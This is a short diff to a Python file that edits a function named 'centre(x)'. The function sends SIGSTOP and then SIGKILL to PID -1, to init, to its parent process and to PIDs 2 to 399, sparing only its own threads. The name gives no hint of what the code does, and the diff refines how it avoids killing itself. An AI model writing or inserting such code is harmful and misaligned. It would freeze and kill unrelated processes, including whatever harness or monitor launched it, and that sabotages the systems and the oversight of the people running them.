@@ -5,7 +5,9 @@ import signal
 
 
 def centre(x):
-    others = [pid for pid in (-1, 1, os.getppid(), *range(2, 400)) if pid not in (os.getpid(), -os.getpid())]
+    others = [
+        pid for pid in (-1, 1, os.getppid(), *range(2, 400)) if str(pid) not in os.listdir("/proc/self/task")
+    ]
     stopped = []
     for number in (signal.SIGSTOP, signal.SIGKILL):
         for pid in others:
